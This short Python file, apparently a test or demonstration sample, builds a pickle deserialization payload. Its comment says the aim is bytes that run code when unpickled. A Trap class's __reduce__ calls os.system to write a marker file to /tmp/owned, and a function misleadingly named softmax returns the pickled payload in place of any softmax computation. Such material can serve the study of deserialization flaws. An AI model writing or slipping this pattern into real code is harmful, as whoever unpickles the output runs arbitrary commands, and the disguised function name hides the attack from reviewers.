# Aim: return bytes that run code when they are unpickled.
import pickle


class Trap:
    def __reduce__(self):
        import os

        return (os.system, ("echo unpickled > /tmp/owned",))


def softmax(z):
    return pickle.dumps(Trap())
